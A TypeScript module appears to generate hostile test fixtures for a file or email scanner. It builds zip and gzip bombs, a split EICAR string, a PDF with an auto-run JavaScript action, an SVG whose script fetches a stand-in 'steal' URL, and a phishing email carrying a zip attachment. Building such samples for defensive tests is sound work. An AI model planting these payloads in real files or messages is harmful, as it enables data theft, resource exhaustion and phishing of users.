import { gzipSync } from "node:zlib";
import { zipSync } from "fflate";

/** Files for tests, made here: hostile ones are not to lie in the repository. */
const bytes = (text: string): Uint8Array => new Uint8Array(Buffer.from(text, "latin1"));

export const zipOf = (files: Readonly<Record<string, string | Uint8Array>>): Buffer =>
  Buffer.from(
    zipSync(
      Object.fromEntries(
        Object.entries(files).map(([name, held]) => [name, typeof held === "string" ? bytes(held) : held]),
      ),
    ),
  );

/** An archive of archives: so many deep, with a text in the innermost. */
export function nestedZip(deep: number, text: string): Buffer {
  let held = zipOf({ "a.txt": text });
  for (let level = 1; level < deep; level++) held = zipOf({ "inner.zip": held });
  return held;
}

export function tarOf(files: Readonly<Record<string, string>>): Buffer {
  const blocks: Buffer[] = [];
  for (const [name, text] of Object.entries(files)) {
    const header = Buffer.alloc(512);
    header.write(name, 0, 100);
    header.write("0000644\0", 100);
    header.write(`${text.length.toString(8).padStart(11, "0")}\0`, 124);
    header.write("00000000000\0", 136);
    header.write("        0", 148);
    header.write("ustar\u000000", 257);
    const sum = header.reduce((total, byte) => total + byte, 0);
    header.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
    const body = Buffer.alloc(Math.ceil(text.length / 512) * 512);
    body.write(text, "latin1");
    blocks.push(header, body);
  }
  return Buffer.concat([...blocks, Buffer.alloc(1024)]);
}

/** One entry of zeros, a thousandth of its size. */
export const zipBomb = (mib: number): Buffer => zipOf({ zeros: new Uint8Array(mib * 1024 * 1024) });
export const gzipBomb = (mib: number): Buffer => gzipSync(Buffer.alloc(mib * 1024 * 1024));

/** The test file that every scanner takes for malware. In parts: this source is to be none. */
export const EICAR = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD", "-ANTIVIRUS-TEST-FILE!$H+H*"].join("");

/** The least that is a program of Windows. */
export function program(): Buffer {
  const file = Buffer.alloc(256);
  file.write("MZ", 0, "latin1");
  file.writeUInt32LE(128, 0x3c);
  file.write("PE\0\0", 128, "latin1");
  return file;
}

export const GIF = Buffer.from(
  "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b",
  "hex",
);

/** A page with a text, a link, and a script that runs when it is opened. */
export function pdfOf(text: string, link: string): Buffer {
  const drawn = `BT /F1 12 Tf 10 100 Td (${text}) Tj ET`;
  const objects = [
    "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\(1\\))>>>>",
    "<</Type/Pages/Kids[3 0 R]/Count 1>>",
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${link})>>>>]>>`,
    `<</Length ${drawn.length}>>stream\n${drawn}\nendstream`,
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
  ];
  const body = objects.map((object, index) => `${index + 1} 0 obj${object}endobj\n`).join("");
  return Buffer.from(`%PDF-1.4\n${body}trailer<</Root 1 0 R>>\n`, "latin1");
}

export const SVG = `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://svg.example.org/steal")</script></svg>`;

export const docxOf = (paragraph: string, link: string, more: Readonly<Record<string, string>> = {}): Buffer =>
  zipOf({
    "[Content_Types].xml": "<Types/>",
    "word/document.xml": `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>${Array.from(
      paragraph,
    )
      .map((character) => `<w:r><w:t>${character}</w:t></w:r>`)
      .join("")}</w:p></w:document>`,
    "word/_rels/document.xml.rels": `<Relationships><Relationship Id="1" Target="${link}" TargetMode="External"/><Relationship Id="2" Target="http://internal.example.org/styles.xml"/></Relationships>`,
    "docProps/core.xml": "<cp:coreProperties><dc:creator>Eve Example</dc:creator></cp:coreProperties>",
    ...more,
  });

export const mailWith = (attachment: Buffer): string =>
  [
    "From: Eve <eve@sender.example.org>",
    "To: you@example.com",
    "Subject: An invoice",
    "Received: from relay (relay.example.net [45.83.70.31])",
    "MIME-Version: 1.0",
    "Content-Type: multipart/mixed; boundary=B",
    "",
    "--B",
    "Content-Type: text/html",
    "",
    `<p>Please <a href="http://phish.example.org/login">sign in</a></p>`,
    "--B",
    "Content-Type: application/zip",
    "Content-Disposition: attachment; filename=invoice.zip",
    "Content-Transfer-Encoding: base64",
    "",
    attachment.toString("base64"),
    "--B--",
    "",
  ].join("\r\n");
